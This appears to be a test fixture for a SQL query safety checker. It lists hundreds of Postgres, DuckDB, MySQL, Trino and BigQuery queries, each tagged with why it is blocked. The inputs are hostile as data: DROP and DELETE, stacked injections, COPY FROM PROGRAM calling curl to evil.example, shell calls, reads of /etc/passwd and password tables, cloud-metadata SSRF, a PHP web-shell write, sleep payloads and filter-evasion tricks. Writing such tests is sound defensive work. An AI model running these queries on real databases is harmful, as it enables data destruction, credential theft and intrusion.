## postgres statement
DELETE FROM customers

## postgres statement
/* report */ DELETE FROM customers

## postgres statement
-- SELECT 1
DELETE FROM customers

## postgres,duckdb,mysql,trino,bigquery statement
DROP TABLE customers

## postgres,duckdb,mysql,trino,bigquery statement
UPDATE customers SET name = 'x'

## postgres,duckdb,mysql,trino,bigquery statement
INSERT INTO customers VALUES (1)

## postgres,duckdb,mysql,trino,bigquery statement
CREATE TABLE x AS SELECT * FROM customers

## postgres,duckdb,mysql,trino,bigquery statement
ALTER TABLE customers ADD COLUMN x INT

## postgres,duckdb,mysql,trino,bigquery statement
TRUNCATE TABLE customers

## postgres,duckdb,mysql,trino,bigquery statement
MERGE INTO customers USING orders ON customers.id = orders.customer_id WHEN MATCHED THEN DELETE

## postgres,duckdb,mysql,trino,bigquery statement
GRANT ALL ON customers TO public

## postgres,duckdb,mysql,trino,bigquery statement
SELECT 1; DROP TABLE customers

## postgres,duckdb,mysql,trino,bigquery statement
SELECT 1; SELECT 2

## postgres,duckdb,mysql,trino,bigquery statement
SELECT 1;/**/DELETE FROM customers;--

## postgres statement
COMMIT; DROP TABLE customers

## postgres statement
SELECT 1; COMMIT; DROP TABLE customers; BEGIN

## postgres statement
COPY customers TO '/tmp/customers.csv'

## postgres statement
COPY customers FROM PROGRAM 'curl http://evil.example'

## postgres statement
COPY (SELECT 1) TO PROGRAM 'sh -c id'

## postgres statement
DO $$ BEGIN PERFORM pg_sleep(10); END $$

## postgres statement
CALL refresh_all()

## postgres statement
SET ROLE postgres

## postgres statement
SET SESSION AUTHORIZATION postgres

## postgres statement
RESET ALL

## postgres statement
SHOW ALL

## postgres statement
EXPLAIN ANALYZE DELETE FROM customers

## postgres statement
EXPLAIN SELECT 1

## postgres statement
PREPARE p AS DELETE FROM customers

## postgres statement
EXECUTE p

## postgres statement
DEALLOCATE ALL

## postgres statement
LISTEN jobs

## postgres statement
NOTIFY jobs, 'x'

## postgres statement
LOCK TABLE customers

## postgres statement
VACUUM FULL customers

## postgres statement
REFRESH MATERIALIZED VIEW x

## postgres statement
CREATE EXTENSION dblink

## postgres statement
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'

## postgres statement
DECLARE c CURSOR FOR SELECT 1

## postgres statement
FETCH ALL FROM c

## postgres statement
BEGIN; SELECT 1; COMMIT

## postgres statement
LOAD '/tmp/evil.so'

## postgres statement
SELECT * INTO stolen FROM customers

## postgres statement
SELECT * INTO TEMP stolen FROM customers

## postgres statement
WITH x AS (SELECT 1) SELECT * INTO stolen FROM x

## postgres part
WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone

## postgres statement
WITH added AS (INSERT INTO customers VALUES (1) RETURNING *) SELECT * FROM added

## postgres part
WITH changed AS (UPDATE customers SET name = 'x' RETURNING *) SELECT * FROM changed

## postgres part
WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING 1) SELECT * FROM a, b

## postgres statement
WITH x AS (SELECT 1) DELETE FROM customers

## postgres statement
WITH x AS (SELECT 1) UPDATE customers SET name = 'x'

## postgres statement
WITH x AS (SELECT 1) INSERT INTO customers SELECT * FROM x

## postgres,mysql part
SELECT * FROM customers FOR UPDATE

## postgres,mysql part
SELECT * FROM customers FOR SHARE

## postgres,mysql part
SELECT * FROM (SELECT * FROM customers FOR UPDATE) AS c

## postgres part
SELECT * FROM customers FOR NO KEY UPDATE OF customers NOWAIT

## postgres function
SELECT pg_sleep(10)

## postgres function
SELECT PG_SLEEP(10)

## postgres function
SELECT pg_sleep (10)

## postgres function
SELECT pg_sleep/**/(10)

## postgres function
SELECT "pg_sleep"(10)

## postgres function
SELECT pg_catalog.pg_sleep(10)

## postgres function
SELECT "pg_catalog"."pg_sleep"(10)

## postgres function
SELECT pg_sleep(10)::text || 'x'

## postgres function
SELECT CASE WHEN (SELECT 1) = 1 THEN pg_sleep(10) END

## postgres function
SELECT * FROM customers WHERE id = (SELECT 1 FROM pg_sleep(10))

## postgres function
SELECT * FROM customers ORDER BY pg_sleep(1)

## postgres function
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM customers

## postgres function
SELECT sum(1) OVER (PARTITION BY pg_sleep(1)) FROM customers

## postgres function
SELECT * FROM customers JOIN orders ON pg_sleep(1) IS NULL

## postgres function
SELECT * FROM customers GROUP BY pg_sleep(1) HAVING pg_sleep(1) IS NULL

## postgres function
SELECT * FROM customers LIMIT (SELECT pg_sleep(1)::text::int)

## postgres function
SELECT ARRAY[pg_sleep(1)]

## postgres function
SELECT ARRAY(SELECT pg_sleep(1))

## postgres function
SELECT abs(length(pg_read_file('/etc/passwd')))

## postgres function
SELECT pg_read_file('/etc/passwd')

## postgres function
SELECT * FROM pg_read_file('/etc/passwd')

## postgres function
SELECT * FROM pg_read_file('/etc/passwd') AS f(line)

## postgres function
SELECT * FROM customers, LATERAL pg_read_file('/etc/passwd') AS f

## postgres function
SELECT * FROM customers CROSS JOIN LATERAL pg_read_file(name)

## postgres function
SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'))

## postgres function
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/'))

## postgres function
SELECT pg_read_binary_file('/etc/shadow')

## postgres function
SELECT pg_ls_dir('/')

## postgres function
SELECT * FROM pg_ls_logdir()

## postgres function
SELECT pg_stat_file('/etc/passwd')

## postgres function
SELECT pg_file_write('/tmp/x', 'x', false)

## postgres function
SELECT lo_import('/etc/passwd')

## postgres function
SELECT lo_export(1, '/tmp/x')

## postgres function
SELECT lo_from_bytea(0, 'x')

## postgres function
SELECT lo_get(1)

## postgres function
SELECT lo_put(1, 0, 'x')

## postgres function
SELECT lo_unlink(1)

## postgres function
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)

## postgres function
SELECT dblink_connect('host=evil')

## postgres function
SELECT dblink_exec('DROP TABLE customers')

## postgres function
SELECT postgres_fdw_disconnect_all()

## postgres function
SELECT set_config('log_statement', 'none', false)

## postgres function
SELECT current_setting('data_directory')

## postgres function
SELECT current_setting('is_superuser')

## postgres function
SELECT nextval('customers_id_seq')

## postgres function
SELECT setval('customers_id_seq', 1)

## postgres function
SELECT currval('customers_id_seq'), lastval()

## postgres function
SELECT setseed(0.5)

## postgres function
SELECT pg_notify('jobs', 'x')

## postgres function
SELECT pg_terminate_backend(1)

## postgres function
SELECT pg_cancel_backend(1)

## postgres function
SELECT pg_reload_conf()

## postgres function
SELECT pg_rotate_logfile()

## postgres function
SELECT pg_switch_wal()

## postgres function
SELECT pg_create_restore_point('x')

## postgres function
SELECT pg_promote()

## postgres function
SELECT pg_advisory_lock(1)

## postgres function
SELECT pg_try_advisory_xact_lock(1)

## postgres function
SELECT pg_export_snapshot()

## postgres function
SELECT pg_current_xact_id()

## postgres function
SELECT txid_current()

## postgres function
SELECT pg_logical_emit_message(true, 'x', 'y')

## postgres function
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)

## postgres function
SELECT pg_create_physical_replication_slot('s')

## postgres function
SELECT pg_backup_start('x')

## postgres function
SELECT query_to_xml('SELECT * FROM pg_shadow', true, true, '')

## postgres function
SELECT table_to_xml('pg_shadow', true, true, '')

## postgres function
SELECT schema_to_xml('public', true, true, '')

## postgres function
SELECT database_to_xml(true, true, '')

## postgres function
SELECT cursor_to_xml('c', 1, true, true, '')

## postgres function
SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow')

## postgres function
SELECT ts_rewrite(to_tsquery('a'), 'SELECT t, s FROM aliases')

## postgres function
SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int)

## postgres function
SELECT * FROM connectby('t', 'a', 'b', '1', 0) AS t(a text)

## postgres function
SELECT xpath('/a', '<a/>')

## postgres function
SELECT version()

## postgres function
SELECT inet_server_addr()

## postgres function
SELECT inet_client_addr()

## postgres function
SELECT pg_postmaster_start_time()

## postgres function
SELECT current_user

## postgres function
SELECT session_user

## postgres function
SELECT current_schema

## postgres function
SELECT current_catalog

## postgres function
SELECT current_database()

## postgres function
SELECT current_query()

## postgres function
SELECT has_table_privilege('customers', 'SELECT')

## postgres function
SELECT to_regclass('pg_shadow')

## postgres function
SELECT format_type(23, 0)

## postgres function
SELECT pg_get_viewdef('v')

## postgres function
SELECT pg_get_functiondef(1)

## postgres function
SELECT pg_relation_size('customers')

## postgres function
SELECT plpy_execute('x')

## postgres function
SELECT system('id')

## postgres function
SELECT my_schema.my_function(1)

## postgres function
SELECT evil.abs(1)

## postgres function
SELECT a.b.c.evil(1)

## postgres function
SELECT (customers).evil() FROM customers

## postgres function
SELECT binary_upgrade_create_empty_extension('x', 'y', true, '1', NULL, NULL, NULL)

## postgres function
SELECT gin_clean_pending_list('i')

## postgres unreadable
SELECT ﬁle('x')

## postgres function
SELECT pg_ѕleep(1)

## postgres part
SELECT 1 OPERATOR(pg_catalog.+) 2

## postgres part
SELECT 'pg_shadow'::regclass

## postgres part
SELECT CAST('pg_shadow' AS regclass)

## postgres part
SELECT 'x'::evil_type

## postgres part
SELECT CAST('x' AS evil.evil_type)

## postgres part
SELECT $1

## postgres part
SELECT * FROM customers WHERE id = :id

## postgres part
SELECT * FROM customers WHERE id = ?

## postgres table
SELECT * FROM pg_shadow

## postgres table
SELECT * FROM PG_SHADOW

## postgres table
SELECT * FROM "pg_shadow"

## postgres table
SELECT * FROM pg_catalog.pg_authid

## postgres table
SELECT * FROM "pg_catalog"."pg_authid"

## postgres table
SELECT * FROM PG_CATALOG.customers

## postgres table
SELECT * FROM postgres.pg_catalog.pg_authid

## postgres table
SELECT * FROM pg_stat_activity

## postgres table
SELECT * FROM public.pg_stat_statements

## postgres table
SELECT * FROM pg_user_mapping

## postgres table
SELECT * FROM pg_largeobject

## postgres table
SELECT * FROM pg_hba_file_rules

## postgres table
SELECT * FROM pg_toast.pg_toast_1234

## postgres table
SELECT * FROM pg_temp_1.x

## postgres table
SELECT * FROM pg_settings

## postgres table
TABLE pg_shadow

## postgres table
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)

## postgres table
SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM pg_shadow)

## postgres table
SELECT 1 UNION ALL SELECT usesysid FROM pg_shadow

## postgres table
WITH x AS (SELECT * FROM pg_shadow) SELECT * FROM x

## postgres table
WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow

## postgres table
SELECT * FROM (WITH pg_shadow AS (SELECT 1) SELECT * FROM pg_shadow) AS a, pg_shadow

## postgres table
WITH a AS (SELECT * FROM pg_shadow), pg_shadow AS (SELECT 1) SELECT * FROM a

## postgres table
WITH RECURSIVE pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow

## postgres table
WITH RECURSIVE pg_shadow AS (SELECT 1 FROM pg_shadow UNION ALL SELECT 1) SELECT * FROM pg_shadow

## postgres table
SELECT * FROM information_schema.tables

## postgres table
SELECT * FROM INFORMATION_SCHEMA.role_table_grants

## postgres table
SELECT * FROM "customers@link"

## postgres part
SELECT * FROM customers@link

## postgres table
SELECT * FROM "public.customers"

## postgres table
SELECT * FROM "../etc/passwd"

## postgres part
SELECT 1 AS "a""b"

## postgres part
SELECT 1 AS "a\b"

## postgres unreadable
SELECT * FROM U&"\0070g_shadow"

## postgres unreadable
SELECT 'unclosed

## postgres unreadable
SELECT /* unclosed

## postgres unreadable
SELECT $x$ unclosed

## postgres unreadable
SELECT FROM WHERE

## postgres unreadable
SELECT (1

## postgres,duckdb,mysql,trino,bigquery unreadable
/* nothing */

## postgres function
SELECT 'a\' || pg_sleep(10) || ''

## postgres function
SELECT E'\\' || pg_sleep(10) || ''

## postgres function
SELECT $a$ $b$ $a$ || pg_sleep(10)

## postgres function
SELECT 1 /* /* */ -- */ , pg_sleep(1)
, pg_sleep(2)

## postgres function
SELECT 1 -- '
, pg_sleep(10) -- '

## postgres function
SELECT abs(1) /* sqlglot.anonymous */, pg_sleep(1) /* sqlglot.anonymous */

## postgres function
SELECT pg_sleep(1) AS abs

## postgres function
SELECT	pg_sleep
(1)

## postgres column
SELECT id, name, id FROM customers

## postgres column
SELECT id, name AS ID FROM customers

## duckdb column
SELECT id, name AS "ID" FROM customers

## mysql column
SELECT id, name AS Id FROM customers

## duckdb table
SELECT * FROM '/etc/passwd'

## duckdb table
SELECT * FROM "/etc/passwd"

## duckdb table
FROM '/etc/passwd'

## duckdb table
FROM '/etc/passwd' SELECT *

## duckdb table
SELECT * FROM 'customers.csv'

## duckdb table
SELECT * FROM "customers.csv"

## duckdb table
SELECT * FROM customers.csv

## duckdb table
SELECT * FROM data.customers.parquet

## duckdb table
SELECT * FROM customers.JSON

## duckdb table
SELECT * FROM 'data/*.parquet'

## duckdb table
SELECT * FROM 's3://bucket/key.parquet'

## duckdb table
SELECT * FROM 'https://evil.example/x.csv'

## duckdb table
SELECT * FROM 'http://169.254.169.254/latest/meta-data/iam'

## duckdb table
SELECT * FROM 'postgres://user@host/db'

## duckdb table
SELECT * FROM customers JOIN '/etc/passwd' ON true

## duckdb table
SELECT * FROM customers, 'x.csv' AS t(a)

## duckdb table
SELECT (SELECT count(*) FROM 'x.csv')

## duckdb table
WITH x AS (FROM 'y.csv') FROM x

## duckdb table
SELECT * FROM (PIVOT 'x.csv' ON a USING sum(b))

## duckdb table
SELECT 1 WHERE 1 IN (FROM '/etc/passwd')

## duckdb part
SELECT * FROM '\\host\share\x.csv'

## duckdb table
SELECT * FROM 'file:///etc/passwd'

## duckdb table
SELECT * FROM './relative'

## duckdb table
SELECT * FROM '../up'

## duckdb unreadable
SELECT * FROM 'a' || '.csv'

## duckdb function
SELECT * FROM read_csv('/etc/passwd')

## duckdb function
SELECT * FROM READ_CSV('/etc/passwd')

## duckdb function
SELECT * FROM read_csv_auto('/etc/passwd', sep = ':')

## duckdb function
SELECT * FROM read_text('/etc/passwd')

## duckdb function
SELECT * FROM read_blob('/etc/passwd')

## duckdb function
SELECT * FROM read_json('/tmp/x')

## duckdb function
SELECT * FROM read_json_auto('https://evil.example')

## duckdb function
SELECT * FROM read_ndjson('/tmp/x')

## duckdb function
SELECT * FROM read_parquet('/tmp/x')

## duckdb function
SELECT * FROM read_parquet(['/tmp/x', '/tmp/y'])

## duckdb function
SELECT * FROM parquet_scan('/tmp/x')

## duckdb function
SELECT * FROM parquet_metadata('/tmp/x')

## duckdb function
SELECT * FROM parquet_schema('/tmp/x')

## duckdb function
SELECT * FROM parquet_kv_metadata('/tmp/x')

## duckdb function
SELECT * FROM read_duckdb('/tmp/x.db')

## duckdb function
SELECT * FROM sniff_csv('/etc/passwd')

## duckdb function
SELECT * FROM glob('/etc/*')

## duckdb function
SELECT * FROM customers, glob('/etc/*')

## duckdb function
SELECT * FROM customers, LATERAL read_text(customers.name)

## duckdb function
SELECT (SELECT content FROM read_text('/etc/passwd'))

## duckdb function
WITH x AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM x

## duckdb function
SELECT CASE WHEN true THEN (SELECT count(*) FROM glob('*')) END

## duckdb function
SELECT list_transform([1], x -> (SELECT content FROM read_text('/etc/passwd')))

## duckdb function
SELECT [getenv(x) FOR x IN ['HOME']]

## duckdb function
SELECT {'a': getenv('HOME')}

## duckdb function
SELECT MAP {'a': getenv('HOME')}

## duckdb function
SELECT COLUMNS(c -> getenv(c) = 'x') FROM customers

## duckdb function
SELECT * REPLACE (getenv('HOME') AS name) FROM customers

## duckdb function
SELECT * FROM customers QUALIFY getenv('HOME') = 'x'

## duckdb unreadable
SELECT * FROM customers USING SAMPLE (getenv('x'))

## duckdb function
SELECT getenv('HOME')

## duckdb function
SELECT "getenv"('HOME')

## duckdb function
SELECT main.getenv('HOME')

## duckdb function
SELECT system.main.getenv('HOME')

## duckdb function
SELECT 'HOME'.getenv()

## duckdb function
SELECT name.getenv() FROM customers

## duckdb function
SELECT current_setting('home_directory')

## duckdb function
SELECT getvariable('x')

## duckdb function
SELECT * FROM query('SELECT 1')

## duckdb function
SELECT * FROM query_table('customers')

## duckdb function
SELECT * FROM query_table(['a', 'b'])

## duckdb function
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))

## duckdb function
SELECT json_serialize_sql('SELECT 1')

## duckdb function
SELECT json_serialize_plan('SELECT 1')

## duckdb function
SELECT * FROM duckdb_secrets()

## duckdb function
SELECT * FROM duckdb_settings()

## duckdb function
SELECT * FROM duckdb_databases()

## duckdb function
SELECT * FROM which_secret('s3://x', 's3')

## duckdb function
SELECT * FROM pragma_table_info('customers')

## duckdb function
SELECT * FROM pragma_database_size()

## duckdb function
SELECT * FROM pragma_storage_info('customers')

## duckdb function
SELECT * FROM checkpoint()

## duckdb function
SELECT * FROM force_checkpoint()

## duckdb function
SELECT * FROM enable_logging()

## duckdb function
SELECT write_log('x')

## duckdb function
SELECT sleep_ms(10000)

## duckdb function
SELECT pg_sleep(10)

## duckdb function
SELECT nextval('s')

## duckdb function
SELECT setval('s', 1)

## duckdb function
SELECT txid_current()

## duckdb function
SELECT setseed(0.5)

## duckdb function
SELECT * FROM postgres_scan('host=x', 'public', 't')

## duckdb function
SELECT * FROM postgres_query('db', 'DROP TABLE x')

## duckdb function
SELECT * FROM mysql_query('db', 'DROP TABLE x')

## duckdb function
SELECT * FROM sqlite_scan('/tmp/x.db', 't')

## duckdb function
SELECT * FROM iceberg_scan('s3://x')

## duckdb function
SELECT * FROM delta_scan('s3://x')

## duckdb function
SELECT * FROM st_read('/tmp/x.shp')

## duckdb function
SELECT * FROM read_xlsx('/tmp/x.xlsx')

## duckdb function
SELECT * FROM arrow_scan(1, 2, 3)

## duckdb function
SELECT * FROM pandas_scan(1)

## duckdb function
SELECT * FROM python_map_function(1, 2)

## duckdb function
SELECT * FROM seq_scan('customers')

## duckdb function
SELECT * FROM summary((SELECT 1))

## duckdb function
SELECT * FROM test_all_types()

## duckdb function
SELECT * FROM from_substrait('x')

## duckdb function
SELECT http_get('http://evil.example')

## duckdb function
SELECT list_aggregate([1], 'sum')

## duckdb function
SELECT error('x')

## duckdb function
SELECT current_user

## duckdb function
SELECT version()

## duckdb function
SELECT current_database()

## duckdb function
SELECT stats(1)

## duckdb function
SELECT pg_get_viewdef(1)

## duckdb function
SELECT __internal_compress_string_ubigint('x')

## duckdb table
SELECT * FROM duckdb_settings

## duckdb table
SELECT * FROM duckdb_tables

## duckdb table
SELECT * FROM sqlite_master

## duckdb table
SELECT * FROM pragma_database_list

## duckdb table
SELECT * FROM pg_settings

## duckdb table
SELECT * FROM information_schema.tables

## duckdb table
SELECT * FROM system.main.duckdb_secrets

## duckdb table
SELECT * FROM system.information_schema.columns

## duckdb table
SELECT * FROM temp.x

## duckdb table
SELECT * FROM pg_catalog.pg_class

## duckdb part
SELECT * FROM (SUMMARIZE customers)

## duckdb part
SELECT * FROM (DESCRIBE customers)

## duckdb statement
SUMMARIZE customers

## duckdb statement
DESCRIBE customers

## duckdb statement
SHOW TABLES

## duckdb statement
ATTACH '/tmp/x.db'

## duckdb statement
ATTACH 'postgres:host=evil' AS pg (TYPE postgres)

## duckdb statement
DETACH x

## duckdb statement
USE x

## duckdb statement
INSTALL httpfs

## duckdb statement
LOAD httpfs

## duckdb statement
FORCE INSTALL httpfs FROM 'http://evil.example'

## duckdb statement
COPY customers TO '/tmp/x.csv'

## duckdb statement
COPY (SELECT 1) TO 's3://x'

## duckdb statement
EXPORT DATABASE '/tmp/x'

## duckdb statement
IMPORT DATABASE '/tmp/x'

## duckdb statement
PRAGMA database_list

## duckdb statement
PRAGMA enable_profiling

## duckdb statement
SET enable_external_access = true

## duckdb statement
RESET enable_external_access

## duckdb statement
SET VARIABLE x = 1

## duckdb statement
CALL pragma_version()

## duckdb statement
CHECKPOINT

## duckdb statement
CREATE SECRET s (TYPE s3)

## duckdb statement
CREATE MACRO f(x) AS x

## duckdb statement
EXPLAIN ANALYZE SELECT 1

## duckdb statement
EXECUTE p

## duckdb statement
PIVOT customers ON country USING count(*)

## duckdb part
SELECT $1, $name

## duckdb part
SELECT ?

## duckdb part
SELECT 'x'::evil_type

## duckdb statement
SELECT * INTO x FROM customers

## mysql function
SELECT load_file('/etc/passwd')

## mysql function
SELECT LOAD_FILE(0x2F6574632F706173737764)

## mysql function
SELECT hex(load_file('/etc/passwd'))

## mysql function
SELECT sleep(10)

## mysql function
SELECT SLEEP(10) FROM customers

## mysql function
SELECT `sleep`(10)

## mysql function
SELECT mysql.sleep(10)

## mysql function
SELECT IF(1, sleep(10), 0)

## mysql function
SELECT 1 UNION SELECT sleep(10)

## mysql function
SELECT * FROM customers WHERE id = 1 OR sleep(10) = 0

## mysql function
SELECT benchmark(100000000, md5('x'))

## mysql function
SELECT get_lock('x', 10)

## mysql function
SELECT release_lock('x'), is_free_lock('x')

## mysql function
SELECT master_pos_wait('x', 1)

## mysql function
SELECT wait_for_executed_gtid_set('x')

## mysql function
SELECT sys_exec('id')

## mysql function
SELECT sys_eval('id')

## mysql function
SELECT extractvalue(1, concat(0x7e, 'x'))

## mysql function
SELECT updatexml(1, concat(0x7e, 'x'), 1)

## mysql function
SELECT user(), database(), version()

## mysql function
SELECT current_user

## mysql function
SELECT CURRENT_USER()

## mysql function
SELECT session_user()

## mysql function
SELECT system_user()

## mysql function
SELECT connection_id()

## mysql function
SELECT last_insert_id(5)

## mysql function
SELECT found_rows(), row_count()

## mysql function
SELECT uuid_short()

## mysql function
SELECT name_const('a', 1)

## mysql function
SELECT schema()

## mysql function
SELECT mydb.my_function(1)

## mysql function
SELECT 1 --sleep(1)
, sleep(10)

## mysql function
SELECT 1--sleep(10)

## mysql function
SELECT 'a\'', sleep(10), 'b\''

## mysql function
SELECT "a\"", sleep(10), "b"

## mysql function
SELECT 1 # '
, sleep(10) # '

## mysql function
SELECT 'it''s', sleep(10)

## mysql part
SELECT 1 /*!50000 , sleep(10) */

## mysql part
SELECT /*! sleep(10) */ 1

## mysql part
SELECT 1 /*!UNION SELECT password FROM customers*/

## mysql part
SELECT 1 /*M!100000 , sleep(10) */

## mysql statement
SELECT 1 INTO OUTFILE '/tmp/x'

## mysql statement
SELECT * FROM customers INTO OUTFILE '/var/www/x.php' FIELDS TERMINATED BY ','

## mysql statement
SELECT '<?php ?>' INTO DUMPFILE '/var/www/x.php'

## mysql statement
SELECT name INTO @x FROM customers

## mysql statement
SELECT * FROM (SELECT 1 INTO @a) AS t

## mysql part
SELECT @@version

## mysql part
SELECT @@global.secure_file_priv

## mysql part
SELECT @x := 1

## mysql part
SELECT @x

## mysql part
SELECT * FROM customers LOCK IN SHARE MODE

## mysql part
SELECT * FROM customers FOR UPDATE SKIP LOCKED

## mysql unreadable
SELECT * FROM customers PROCEDURE ANALYSE()

## mysql statement
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers

## mysql statement
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customers

## mysql statement
HANDLER customers OPEN

## mysql statement
DO sleep(10)

## mysql statement
CALL proc()

## mysql statement
SET GLOBAL general_log = 1

## mysql statement
SHOW GRANTS

## mysql statement
DESCRIBE customers

## mysql statement
EXPLAIN SELECT 1

## mysql statement
REPLACE INTO customers VALUES (1)

## mysql statement
KILL 1

## mysql statement
FLUSH PRIVILEGES

## mysql statement
LOCK TABLES customers READ

## mysql statement
PREPARE s FROM 'SELECT 1'

## mysql statement
USE mysql

## mysql table
SELECT * FROM mysql.user

## mysql table
SELECT * FROM `mysql`.`user`

## mysql table
SELECT * FROM MYSQL.user

## mysql table
SELECT * FROM information_schema.tables

## mysql table
SELECT * FROM Information_Schema.PROCESSLIST

## mysql table
SELECT * FROM performance_schema.threads

## mysql table
SELECT * FROM sys.session

## mysql table
SELECT (SELECT authentication_string FROM mysql.user LIMIT 1)

## mysql table
SELECT * FROM `../x`

## mysql part
SELECT * FROM `a``b`

## trino function
SELECT * FROM TABLE(pg.system.query(query => 'DROP TABLE x'))

## trino function
SELECT * FROM TABLE("pg"."system"."query"(query => 'DROP TABLE x'))

## trino function
SELECT * FROM TABLE(query(query => 'SELECT 1'))

## trino function
SELECT * FROM customers, TABLE(pg.system.query(query => 'x'))

## trino function
WITH x AS (SELECT * FROM TABLE(es.system.raw_query(schema => 's', index => 'i', query => '{}'))) SELECT * FROM x

## trino function
SELECT (SELECT 1 FROM TABLE(pg.system.query(query => 'x')))

## trino function
SELECT * FROM TABLE(hive.system.unload(input => TABLE(customers), location => 's3://x', format => 'ORC'))

## trino function
SELECT * FROM TABLE(iceberg.system.table_changes('s', 't', 1, 2))

## trino function
SELECT * FROM TABLE(system.builtin.sequence(1, 10))

## trino function
SELECT * FROM TABLE(exclude_columns(input => TABLE(customers), columns => DESCRIPTOR(name)))

## trino function
SELECT current_user

## trino function
SELECT current_catalog

## trino function
SELECT current_groups()

## trino function
SELECT version()

## trino function
SELECT fail('x')

## trino function
SELECT my_catalog.my_schema.my_function(1)

## trino function
SELECT "abs"(1)

## trino function
SELECT evil(1)

## trino function
SELECT ai_gen('x')

## trino function
SELECT transform(ARRAY[1], x -> evil(x))

## trino function
SELECT reduce(ARRAY[1], evil(), (s, x) -> s, s -> s)

## trino function
SELECT TRY(evil())

## trino function
SELECT CAST(evil() AS VARCHAR)

## trino function
SELECT * FROM UNNEST(evil())

## trino function
SELECT * FROM (VALUES evil())

## trino function
SELECT 1 EXCEPT SELECT evil()

## trino function
SELECT COALESCE(NULL, evil())

## trino function
SELECT x FROM customers WHERE x LIKE evil() ESCAPE '!'

## trino function
SELECT x[evil()] FROM customers

## trino function
SELECT INTERVAL '1' DAY * evil()

## trino part
WITH FUNCTION f(x integer) RETURNS integer RETURN x * 2 SELECT f(1)

## trino unreadable
WITH SESSION query_max_run_time = '10d' SELECT 1

## trino statement
EXECUTE IMMEDIATE 'DROP TABLE x'

## trino statement
EXPLAIN ANALYZE SELECT 1

## trino statement
SET SESSION query_max_run_time = '10d'

## trino statement
SET ROLE admin

## trino statement
CALL system.runtime.kill_query(query_id => 'x', message => 'y')

## trino statement
ALTER TABLE customers EXECUTE optimize

## trino statement
PREPARE p FROM SELECT 1

## trino statement
SHOW CATALOGS

## trino statement
DESCRIBE customers

## trino statement
USE hive.default

## trino statement
REFRESH MATERIALIZED VIEW v

## trino statement
START TRANSACTION

## trino table
SELECT * FROM system.runtime.queries

## trino table
SELECT * FROM SYSTEM.runtime.nodes

## trino table
SELECT * FROM "system"."metadata"."catalogs"

## trino table
SELECT * FROM system.jdbc.tables

## trino table
SELECT * FROM jmx.current."java.lang:type=runtime"

## trino table
SELECT * FROM hive.information_schema.tables

## trino table
SELECT * FROM iceberg.system.iceberg_tables

## trino table
SELECT * FROM "orders$snapshots"

## trino table
SELECT * FROM hive.s."orders$partitions"

## trino table
SELECT * FROM "s3://bucket/x"

## trino part
SELECT ?

## bigquery function
SELECT * FROM EXTERNAL_QUERY('connection', 'SELECT 1')

## bigquery function
SELECT * FROM external_query('connection', '''DROP TABLE x''')

## bigquery function
WITH x AS (SELECT * FROM EXTERNAL_QUERY('c', 'SELECT 1')) SELECT * FROM x

## bigquery function
SELECT * FROM d.t, EXTERNAL_QUERY('c', 'SELECT 1')

## bigquery function
SELECT (SELECT x FROM EXTERNAL_QUERY('c', 'SELECT 1 AS x'))

## bigquery function
SELECT ML.DISTANCE(a, b) FROM d.t

## bigquery function
SELECT * FROM ML.FORECAST((SELECT 1))

## bigquery function
SELECT * FROM ML.GENERATE_TEXT((SELECT 1))

## bigquery unreadable
SELECT * FROM ML.PREDICT(MODEL d.m, TABLE d.t)

## bigquery function
SELECT AI.GENERATE('x')

## bigquery function
SELECT AI.GENERATE_BOOL('x', connection_id => 'c')

## bigquery function
SELECT SESSION_USER()

## bigquery function
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')

## bigquery function
SELECT AEAD.DECRYPT_STRING(k, c, 'x') FROM d.t

## bigquery function
SELECT KEYS.KEYSET_CHAIN('gcp-kms://x', b'y')

## bigquery function
SELECT d.my_udf(1)

## bigquery function
SELECT `p.d`.my_udf(1)

## bigquery function
SELECT p.d.my_udf(1)

## bigquery function
SELECT * FROM d.my_table_function(1)

## bigquery function
SELECT `abs`(1)

## bigquery function
SELECT SAFE.evil(1)

## bigquery function
SELECT NET.evil(1)

## bigquery function
SELECT BQ.JOBS.CANCEL('x')

## bigquery function
SELECT * FROM VECTOR_SEARCH((SELECT 1), 'c', (SELECT 2))

## bigquery function
SELECT * FROM GAP_FILL((SELECT 1), ts_column => 'x')

## bigquery function
SELECT ARRAY(SELECT evil(x) FROM UNNEST([1]) AS x)

## bigquery function
SELECT STRUCT(evil() AS a)

## bigquery function
SELECT [evil()]

## bigquery function
SELECT ARRAY_AGG(evil() ORDER BY 1 LIMIT 1) FROM d.t

## bigquery function
SELECT * FROM d.t WHERE x IN UNNEST([evil()])

## bigquery function
SELECT * EXCEPT (a) REPLACE (evil() AS b) FROM d.t

## bigquery function
FROM d.t |> WHERE evil(x) |> SELECT a

## bigquery function
FROM d.t |> EXTEND evil(x) AS y |> SELECT y

## bigquery function
SELECT r'\\', evil(), r'\\'

## bigquery function
SELECT '\'', evil(), '\''

## bigquery function
SELECT '''a'b''', evil(), """c"d"""

## bigquery function
SELECT 1 # '
, evil() # '

## bigquery part
SELECT `a\` , 'x` , evil() -- '

## bigquery part
SELECT 1 AS `a\`b`

## bigquery part
SELECT @@project_id

## bigquery part
SELECT @param

## bigquery part
SELECT ?

## bigquery statement
CREATE TEMP FUNCTION f() RETURNS INT64 LANGUAGE js AS 'return 1'; SELECT f()

## bigquery statement
DECLARE x INT64; SELECT x

## bigquery statement
BEGIN SELECT 1; END

## bigquery statement
EXPORT DATA OPTIONS (uri = 'gs://x/*', format = 'CSV') AS SELECT 1

## bigquery statement
